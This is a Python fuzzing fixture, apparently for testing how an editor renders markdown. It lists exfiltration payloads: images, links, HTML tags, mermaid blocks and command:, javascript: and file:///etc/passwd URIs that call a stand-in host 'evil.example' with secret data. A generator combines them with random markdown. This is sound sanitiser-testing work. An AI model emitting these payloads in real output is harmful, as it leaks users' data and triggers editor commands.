"""Markdown that has carried data out of editors, in pieces, and put together at random with what may stand around."""

from __future__ import annotations

import random

EVIL = "https://evil.example/?d=secret"

LOADING = (
    *(f"![x]({EVIL})", f"![x][r]\n\n[r]: {EVIL}", "![r]", "![ours]", f"[r]: {EVIL}\n", f"![a]( <{EVIL}> 'title')"),
    *(f"![x\ny]({EVIL}\n)", f"[![b]({EVIL})](https://ok)", f"![a [b] c]({EVIL})", f"![![n]({EVIL})]({EVIL})"),
    *(f"!\\[x]({EVIL}) ![y]({EVIL})", f"\\![x]({EVIL})", f"\\\\![x]({EVIL})"),
    *(f"<img src={EVIL}>", f'<IMG\nSRC="{EVIL}"\n>', f"<a href='{EVIL}' ping='{EVIL}'>x</a>"),
    *(f"<svg><image href='{EVIL}'/></svg>", f"<style>@import '{EVIL}';</style>", f"<script src={EVIL}></script>"),
    *(f"<iframe\nsrcdoc='<img src={EVIL}>'>", f"<div style='background:url({EVIL})'>\n\nx\n\n</div>"),
    *("<base href=//evil>", f"<meta http-equiv=refresh content='0;{EVIL}'>", f"<video poster={EVIL}>"),
    *(f"<xmp><!--</xmp><img src={EVIL}>-->", f"<!-- a --><img src={EVIL}><!-- b -->", f"<!--><img src={EVIL}>-->"),
    *("<!--", "-->", "<textarea>", "</textarea>", "<pre>", "<?x", "?>", f"<![CDATA[<img src={EVIL}>]]>"),
    *(f"<?x <img src={EVIL}> ?>", f"<!D <img src={EVIL}>>", f"<details open ontoggle=fetch('{EVIL}')>"),
    *("[run](command:workbench.action.terminal.new)", "<command:x>", "[x](javascript:alert(1))", "[x](&#99;ommand:y)"),
    *("[x](co\\mmand:y)", "[x](file:///etc/passwd)", "[x](data:text/html,x)", "[x](vscode://x/y)", "[c]: command:x\n"),
    *("[c]", "[x](<command:a b>)"),
    *(f'```mermaid\nclick A "{EVIL}"\n```', f'~~~ Mermaid\nA@{{ img: "{EVIL}" }}\n~~~'),
    *(f"``` {{.mermaid}}\nA[<img src={EVIL}>]\n```", '```vega-lite\n{"data": {"url": "//evil"}}\n```'),
    *(f"$a`$ ![x]({EVIL}) `", f"$$\n```\n$$\n![x]({EVIL})\n```", f"| a | b |\n|---|---|\n| `x|![y]({EVIL})` |"),
    *(f"[^1]: note\n\n    ![x]({EVIL})", f"- a\n  ```\n![x]({EVIL})\n  ```", f"1. a\n\n      ![x]({EVIL})"),
    *(f"> ```\n![x]({EVIL})\n> ```", f"    ```\n![x]({EVIL})\n    ```", f"x\n    ```\n![x]({EVIL})"),
)
AROUND = (
    *("\n", "\n\n", "\r\n", "\r", " ", ""),
    *("> ", "- ", "1. ", "    ", "\t", "  ", "# "),
    *("`", "``", "```\n", "```html\n", "~~~\n", "`` ` ``"),
    *("*", "**", "_", "[", "]", "(", ")", "!", "<", ">", "\\", "|", "\n|---|\n"),
    *("$", "$$", "&lt;", "&#33;", "word", "code", "---\n", "===\n", "<details>\n\n", "</details>", "<br>", "<T>"),
    *("`Vec<T>`", "vec![1]"),
    *("## You\n", "## thinklsp\n", "<b>", "</b>", "<!-- note -->"),
    *("[ok](https://example.org)", "[file](src/a.py#L3)", "<https://example.org>", "[^1]", "\x00", "\x0b", "\u2028"),
    *("\ufeff", "😀", "\u00a0"),
)


def some_markdown(rng: random.Random) -> str:
    parts = (rng.choice(LOADING if rng.random() < 0.35 else AROUND) for _ in range(rng.randrange(1, 14)))
    return "".join(f"{part}{rng.choice(('', '', chr(10), chr(10) * 2))}" for part in parts)
